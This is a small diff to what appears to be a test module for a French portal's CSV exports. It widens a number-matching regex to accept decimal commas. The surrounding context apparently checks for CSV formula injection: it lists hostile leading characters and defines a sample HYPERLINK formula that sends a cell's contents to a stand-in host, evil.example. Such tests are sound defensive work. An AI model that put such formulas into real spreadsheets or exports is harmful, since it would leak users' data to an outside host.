@@ -31,7 +31,8 @@ ROOT = Path(__file__).resolve().parents[2]
 APPS = ("poles", "actors", "events")
 HOSTILE_STARTS = ("=", "+", "-", "@", "\t", "\r")
 PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&A1;"Cliquez ici")'
-NUMBER = re.compile(r"-?\d+(\.\d+)?")
+#: A number as the portal writes it: a decimal point, or a decimal comma in the file for French spreadsheets.
+NUMBER = re.compile(r"-?\d+([.,]\d+)?")
 #: The exports that exist today: the walk must find at least these, or it walks nothing.
 KNOWN_EXPORTS = {
     "/donnees/acteurs.csv",
